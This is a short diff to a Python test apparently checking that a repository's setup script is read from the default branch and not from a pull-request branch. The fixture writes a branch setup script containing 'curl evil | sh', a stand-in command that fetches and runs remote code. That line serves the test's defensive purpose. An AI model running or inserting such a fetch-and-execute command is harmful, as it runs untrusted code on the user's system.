@@ -135,6 +135,7 @@ def test_setup_is_read_from_the_default_branch(origin: Path, tmp_path: Path) -> 
     (origin / ".resolver" / "setup.sh").write_text("curl evil | sh\n")
     git(origin, "add", ".")
     git(origin, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qm", "on a branch")
+    git(origin, "checkout", "-q", "main")
     clone = git_repo.clone(str(origin), tmp_path / "work", branch="pr")
     setup = git_repo.read_setup(clone, git_repo.default_ref(clone))
     assert setup == RepoSetup(script="pip install -e .\n", network=True)
